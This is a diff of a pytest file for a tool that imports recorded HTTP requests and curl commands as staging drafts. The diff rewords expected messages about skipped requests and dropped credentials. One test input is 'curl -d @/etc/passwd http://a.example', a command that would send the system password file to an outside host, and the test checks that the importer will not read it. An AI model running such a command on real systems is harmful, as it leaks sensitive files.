@@ -48,9 +48,9 @@ def test_har_becomes_drafts_and_lists_skipped_requests(staging: Shell) -> None:
     assert [line.split()[0] for line in ran.text.splitlines()] == ["user.get", "note.add", "ping", "log.write"]
     for message in (
         "requests 1, 3 skipped: it is a GET without a body",
-        "request 6 skipped: its body is no JSON object",
+        "request 6 skipped: its body is not a JSON object",
         "staging sends calls to https://shop.example.com/rpc, but the imported calls were sent to http://127.0.0.1:8744/rpc",
-        "dropped credentials that staging cannot use: ?token= in the address, Authorization: Bearer, cookie sessionid",
+        "dropped credentials that staging cannot use: ?token= in the URL, Authorization: Bearer, cookie sessionid",
         "imported 4 calls as drafts of staging",
     ):
         assert message in ran.err
@@ -121,8 +121,8 @@ def test_password_in_params_is_never_printed(staging: Shell) -> None:
 @pytest.mark.parametrize(
     ("text", "message"),
     [
-        ("", "Nothing was imported. There is nothing in it."),
-        ("curl -d @/etc/passwd http://a.example", "its body would come from the file /etc/passwd, which is not read"),
+        ("", "Nothing was imported. The text is empty."),
+        ("curl -d @/etc/passwd http://a.example", "its body comes from the file /etc/passwd, which is not read"),
         ('{"result": 1}', "request 1 skipped: it is a response"),
     ],
 )
@@ -157,7 +157,7 @@ def test_saved_calls_contain_no_credential(shell: Shell) -> None:
     ran = shell.run("import", str(FILES / "shop.postman_collection.json"), "--save", "sessions.toml")
     assert ran.code == 0
     assert "saved 5 calls in" in ran.err
-    assert "dropped credentials: Authorization: Bearer, Authorization: Basic, ?api_key= in the address" in ran.err
+    assert "dropped credentials: Authorization: Bearer, Authorization: Basic, ?api_key= in the URL" in ran.err
     text = team.read_text()
     assert '[call."get one"]' in text
     assert "12345678901234567890" in text
